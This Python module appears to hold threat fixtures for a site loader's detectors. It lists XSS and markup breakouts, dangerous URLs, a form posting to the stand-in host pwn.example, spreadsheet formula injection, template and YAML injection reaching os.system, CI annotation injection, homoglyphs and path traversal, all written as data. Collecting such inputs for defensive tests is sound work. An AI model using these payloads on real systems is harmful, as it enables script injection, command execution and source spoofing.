"""What somebody who wishes readers ill may write into a record or a page's prose, one list a threat.

Whatever would run or be loaded says `pwn`, so that a detector can tell it from the site's own. Everything here
passes the loader unless its list says otherwise; `tests/threats/detectors.py` shows that each of them bites.
"""

from __future__ import annotations

HTML = {
    "script": "<script>pwn(1)</script>",
    "script-in-capitals": "<ScRiPt/x>pwn(2)</sCrIpT >",
    "image": "<img src=x onerror=pwn(3)>",
    "drawing": "<svg/onload=pwn(4)>",
    "details": "<details open ontoggle=pwn(5)>",
    "frame": "<iframe srcdoc='<script>parent.pwn(6)</script>'></iframe>",
    "object": "<object data=https://pwn.example/x></object>",
    "attribute": '" autofocus tabindex=1 onfocus=pwn(7) x="',
    "attribute-in-single-quotes": "' autofocus tabindex=1 onfocus=pwn(8) x='",
    "out-of-a-title": "</title><script>pwn(9)</script>",
    "out-of-a-text-area": "</textarea></noscript></style><script>pwn(10)</script>",
    "out-of-a-template": "</template><img src=x onerror=pwn(11)>",
    "out-of-a-comment": "--><script>pwn(12)</script><!--",
    "out-of-a-drawing": "</text></svg><script>pwn(13)</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://pwn.example/'>",
    "base": "<base href=https://pwn.example/>",
    "form": "<form action=https://pwn.example/><input name=x></form>",
    "style": "<style>@import 'https://pwn.example/x.css'</style>",
    "style-attribute": "<b style='background:url(https://pwn.example/x)'>x</b>",
    "stylesheet": "<link rel=stylesheet href=https://pwn.example/x.css>",
    "link": "<a href=javascript:pwn(14)>x</a>",
    "clobber": "<a id=pwn name=Briefs>x</a>",
    "clobber-document": "<img name=pwn id=currentScript>",
    "parser-confusion": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=pwn(15)&gt;'>",
    "null-prefix": "<a href='&#1;javascript:pwn(16)'>x</a>",
}

SCRIPT = {
    "end": "</script><script>pwn(20)</script>",
    "end-in-capitals": "</SCRIPT ><img src=x onerror=pwn(21)>",
    "escaped-state": "<!--<script>pwn(22)",
    "end-with-a-slash": "</script/x>pwn(23)",
}
"""Each ends the JSON that stands in a script."""

LINE_ENDS = {"line-separator": "x\u2028pwn()", "paragraph-separator": "x\u2029pwn()"}
"""Line ends of JavaScript before 2019 within a JSON text; the loader refuses them too."""

PLOTLY = {
    "link": '<a href="javascript:pwn(30)">x</a>',
    "link-outside": "<a href='https://pwn.example/'>x</a>",
    "bold": "<b>pwn</b>",
    "span": '<span style="fill:red">pwn</span>',
    "line": "pwn<br>High confidence",
    "entity": "&lt;b&gt;pwn&lt;/b&gt;",
    "entity-by-number": "pwn &#60;b&#62;",
}
"""Texts that Plotly's labels would take for its own small HTML."""

PROSE = {
    "script": "<script>pwn(40)</script>",
    "block": '<div onclick="pwn(41)">\nx\n</div>',
    "image": "<img src=x onerror=pwn(42)>",
    "link": "[x](javascript:pwn(43))",
    "link-in-capitals": "[x](JaVaScRiPt:pwn(44))",
    "link-coded": "[x](&#106;avascript:pwn(45))",
    "link-split": "[x](java&#10;script:pwn(46))",
    "link-defined": "[x][y]\n\n[y]: javascript:pwn(47)",
    "link-automatic": "<javascript:pwn(48)>",
    "data": "[x](data:text/html,<script>pwn(49)</script>)",
    "vbscript": "[x](vbscript:pwn)",
    "file": "[x](file:///etc/pwn)",
    "picture": "![x](https://pwn.example/x.png)",
    "link-without-a-scheme": "[x](//pwn.example/)",
    "link-with-a-backslash": "[x](/\\pwn.example/)",
    "link-with-a-user-name": "[x](https://example.org@pwn.example/)",
    "link-in-punycode": "[x](https://xn--pwn-lgc.example/)",
    "link-over-two-lines": "[x](</\n/pwn.example/>)",
    "link-over-two-lines-to-a-port": "[x](</\n/admin@pwn.example:8080/x>)",
    "link-over-two-lines-in-punycode": "[x](</\n/xn--pwn-lgc.example/>)",
    "link-over-two-lines-with-a-backslash": "[x](</\n\\pwn.example/>)",
    "link-over-two-lines-without-angles": "[x](/\n/pwn.example/)",
    "link-with-a-coded-tab": "[x](/&#9;/pwn.example/)",
    "link-with-a-named-tab": "[x](/&Tab;/pwn.example/)",
    "link-with-a-named-line-break": "[x](/&NewLine;/pwn.example/)",
    "link-with-a-coded-slash": "[x](/&#47;pwn.example/)",
    "link-with-a-named-slash": "[x](/&sol;pwn.example/)",
    "link-with-a-named-backslash": "[x](/&bsol;pwn.example/)",
    "link-with-escaped-backslashes": "[x](/\\\\pwn.example/)",
    "link-behind-a-coded-control": "[x](&#1;//pwn.example/)",
    "link-defined-with-a-coded-slash": "[x][y]\n\n[y]: /&#x2f;pwn.example/",
    "attributes": "x\n{: onclick=pwn(50) }",
    "attributes-of-a-link": "[x](index.md){onclick=pwn(51)}",
    "include": '--8<-- "pwn.txt"',
}

MARKS_OF_MARKDOWN = {
    "cell": "x | pwn | High",
    "bold": "**pwn**",
    "heading": "# pwn",
    "code": "`pwn`",
    "link": "[pwn](https://pwn.example/)",
    "picture": "![pwn](https://pwn.example/x.png)",
    "html": "<b>pwn</b>",
}
"""Texts of records that Markdown would take for marks; a text with a bar forges a cell of a table."""

URLS = [
    "javascript:pwn(1)",
    "JaVaScRiPt:pwn(1)",
    " javascript:pwn(1)",
    "java\tscript:pwn(1)",
    "vbscript:pwn",
    "data:text/html,<script>pwn(1)</script>",
    "data:text/html;base64,cHdu",
    "blob:https://pwn.example/x",
    "file:///etc/pwn",
    "ftp://pwn.example/",
    "view-source:https://pwn.example/",
    "mailto:pwn@example.org",
    "//pwn.example/",
    "/\\pwn.example/",
    "https:pwn.example",
    "https:/pwn.example/",
    "https:///pwn.example/",
    "https://",
    "https://pwn",
    "https://pwn.example.",
    "https://pwn..example/",
    "https://-pwn.example/",
    "https://example.org@pwn.example/",
    "https://example.org:x@pwn.example/",
    "https://pwn.example:8080/",
    "https://pwn.example:443/",
    "https://127.0.0.1/pwn",
    "https://2130706433/pwn",
    "https://0x7f.1/pwn",
    "https://[::1]/pwn",
    "https://localhost/pwn",
    "https://PWN.example/",
    "https://xn--pwn-lgc.example/",
    "https://pwn。example/",
    "https://рwn.example/",
    "https://pwn.example/\u202egro.elpmaxe",
    "https://pwn.example/ x",
    "https://pwn.example/\"onclick='pwn()",
    "https://pwn.example/<script>",
    "https://pwn.example/`x`",
    "https://pwn.example/{x}",
    "https://pwn.example\\@example.org/",
    "https://pwn.example/x\ny",
]
"""Addresses that no record may give."""

HONEST_URLS = [
    "https://www.example.org/",
    "http://example.org/a-b_c~d/e.html?x=1&y=a+b%20c#part:2",
    "https://example.org/%D8%AA%D8%AF%D9%85%D8%B1",
    "https://web.archive.org/web/20151105/https://example.org/x",
    "https://t.example.co.uk/status/659",
    "https://example.org/it's(here);a=b,c!*$@",
]

FORMULAS = [
    "=1+1+cmd|' /C pwn'!A0",
    "+pwn",
    "-pwn",
    "@SUM(pwn)",
    '=HYPERLINK("https://pwn.example/"&A1,"x")',
    "＝pwn",
    "＋pwn",
    "－pwn",
    "＠pwn",
    "'=pwn",
]

XML = {
    "element": "</value></Data><NetworkLink><href>https://pwn.example/</href></NetworkLink><Data><value>",
    "balloon": "<script>pwn(60)</script>",
    "balloon-image": "<img src=https://pwn.example/x onerror=pwn(61)>",
    "section": "]]><script>pwn(62)</script><![CDATA[",
    "entity": "&pwn;",
    "comment": "--><pwn/><!--",
    "instruction": "<?xml-stylesheet href='https://pwn.example/x.xsl'?>",
    "attribute": "' pwn='",
}

TEMPLATES = {
    "jinja": "{{ 7*7 }}",
    "jinja-class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "jinja-block": "{% for x in range(9) %}pwn{% endfor %}",
    "jinja-comment": "pwn {# gone #}",
    "format": "{0.__class__.__init__.__globals__}",
    "format-name": "{n} {name} {when}",
    "percent": "%(n)s %s %d 100%",
    "dollar": "${7*7} $name",
    "erb": "<%= 7*7 %>",
    "plotly": "%{x} %{customdata[0]}",
}

ANNOTATIONS = {
    "command": "x\n::error::pwn",
    "command-with-a-return": "x\r::set-output name=pwn::1",
    "command-coded": "x%0A::error::pwn",
    "stop": "x\n::stop-commands::pwn",
    "old-command": "x\n##[error]pwn",
    "old-command-within-a-line": "x ##[stop-commands]pwn",
    "colours": "\x1b[31mpwn\x1b]0;pwn\x07",
    "direction": "pwn \u202egro",
}

SUMMARY = {
    "fence": "```\n# pwn",
    "long-fence": "``````\npwn",
    "html": "<img src=https://pwn.example/x>",
    "mention": "@pwn",
    "link": "[pwn](https://pwn.example/)",
}

YAML = {
    "tag": "!!python/object/apply:os.system [pwn]",
    "binary": "!!binary cHdu",
    "anchor": "&pwn x",
    "set": "!!set {pwn}",
}
"""Values that plain YAML makes something else of."""

UNSEEN = {
    "override": "a\u202eb",
    "isolate": "a\u2066b",
    "mark": "a\u200fb",
    "zero-width-space": "a\u200bb",
    "word-joiner": "a\u2060b",
    "tag": "a\U000e0041b",
    "hangul-filler": "a\u3164b",
    "bell": "a\x07b",
    "private": "a\ue000b",
    "variation": "a\ufe0fb",
}

LOOK_ALIKES = {
    "Cyrillic": ("SANA", "SАNА"),
    "all in Cyrillic": ("TACC", "ТАСС"),
    "Greek": ("AP", "ΑΡ"),
    "digits": ("Ilya", "l1ya".capitalize()),
    "rn for m": ("Amaq", "Arnaq"),
    "full width": ("Reuters", "Ｒeuters"),
    "mathematical": ("Reuters", "𝐑euters"),
    "accents": ("Reuters", "Réutèrs"),
    "apostrophe": ("Ma'arrat News", "Ma’arrat News"),
    "capitals": ("Reuters", "REUTERS"),
}
"""A source's name, and another that a reader would take for it."""

HONEST = [
    "تدمر",
    "אריחא",
    "Кириллица «Калибр»",
    "می‌خواهم NGO‌ها ۲۰‌ساله",
    "O'Neil’s ‘own’ “words”",
    "< > & | * # % @ ` ~ ^ _ [x] (y) {z}",
    "a <b> c & d &amp; e",
    "Al-Qaʿida; 3 < 5 > 2",
    "क्‍ष Đà Nẵng İstanbul 🚀",
]
"""What honest editors write, and readers must see exactly so."""

PATHS = [
    "..",
    "../pwn",
    "../../pwn",
    "pwn/../../x",
    "/pwn",
    "pwn/index",
    "pwn\\x",
    "pwn%2fx",
    "pwn.html",
    ".pwn",
    "pwn\0",
    "PWN",
    "pwn x",
    "pwn_x",
    "pwn-",
    "-pwn",
    "pwn--x",
    "p",
    "p" * 65,
    "",
    "рwn",
    "pwn?x",
    "pwn#x",
]
"""Ids that would be addresses of something else."""
